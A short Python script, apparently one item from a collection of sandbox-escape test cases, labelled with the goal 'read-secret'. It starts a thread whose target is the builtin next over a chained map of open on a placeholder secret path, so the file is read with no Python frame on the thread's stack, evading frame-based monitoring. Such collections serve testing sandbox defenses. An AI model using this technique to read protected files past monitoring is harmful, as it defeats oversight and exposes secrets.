# technique: a thread whose target is a C callable: an empty stack
# goal: read-secret
# source: own analysis: the empty stack
import _thread
import time
found = []
_thread.start_new_thread(next, (map(found.append, map(open, ['@SECRET@'])),))
while not found:
    time.sleep(0.01)
print(*found[0])
